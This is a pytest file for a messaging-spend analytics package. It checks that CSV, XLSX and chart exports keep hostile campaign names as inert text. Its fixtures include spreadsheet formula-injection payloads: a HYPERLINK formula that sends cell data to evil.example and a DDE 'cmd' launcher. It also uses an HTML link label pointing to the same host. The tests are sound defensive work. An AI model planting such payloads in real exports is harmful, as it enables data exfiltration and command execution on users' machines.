"""The Spend exports of a ledger holding hostile campaign names: inert text, numbers as numbers."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest

from kedacore.analytics import Filters, spend_by_campaign_figure, spend_page, to_csv, to_xlsx
from kedacore.api.types import SendResult, SentMessage
from kedacore.ledger import Ledger, StatusUpdate
from tests.kedacore.test_exports import assert_inert_csv, assert_inert_xlsx, read_csv

NOW = datetime(2024, 5, 20, 14, 45, tzinfo=UTC)
NAMES = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "@SUM(1+9)*cmd|' /C calc'!A0"]


@pytest.fixture
def ledger(ledger_url: Callable[..., str]) -> Iterator[Ledger]:
    with Ledger(ledger_url(), clock=lambda: NOW) as led:
        at = NOW - timedelta(hours=2)
        for n, name in enumerate(NAMES):
            cid = led.create_campaign(name)
            msgid = f"msg_{n:012x}"
            result = SendResult(
                task_id=f"20240520-000{n}",
                message="ok",
                debited_amount=Decimal("0.05"),
                currency="USD",
                segments=1,
                messages=(SentMessage(msgid, f"+120655500{n:02d}"),),
            )
            led.record_send(
                result, country="US", sender="-Shop", content="hi", campaign_id=cid, created_at=at
            )
            led.apply_statuses([StatusUpdate(msgid, "SENT", sent_at=at, cost_micros=50_000)])
        yield led


def test_spend_exports_write_campaign_names_as_inert_text(ledger: Ledger) -> None:
    data = spend_page(ledger, Filters.last_days(7, today=NOW.date()))
    by_campaign = data.frames()["by_campaign"]
    assert set(NAMES) <= set(by_campaign["campaign"])

    csv_file = to_csv(by_campaign)
    assert_inert_csv(csv_file, NAMES)
    rows = read_csv(csv_file)
    spend = rows[0].index("spend")
    assert {r[spend] for r in rows[1:]} == {"0.05"}  # money stays a plain number

    book = to_xlsx(data.frames())  # "Export all views": every sheet
    assert_inert_xlsx(book, [*NAMES, "-Shop"])
    sheet = openpyxl.load_workbook(io.BytesIO(book))["by_campaign"]
    header = [c.value for c in sheet[1]]
    money = [row[header.index("spend")] for row in sheet.iter_rows(min_row=2)]
    assert {(c.value, c.data_type) for c in money} == {(0.05, "n")}


def test_chart_labels_show_campaign_names_as_text() -> None:
    """Plotly reads <a href> in labels: a campaign named with one must not be a live link."""
    name = '<a href="https://evil.example/a">a</a> & <b>b</b>'
    frame = pd.DataFrame({"campaign": [name], "spend": [Decimal("0.05")], "messages": [1]})
    labels = list(spend_by_campaign_figure(frame, "USD").data[0].y)
    assert labels == [
        '&lt;a href="https://evil.example/a"&gt;a&lt;/a&gt; &amp; &lt;b&gt;b&lt;/b&gt;'
    ]
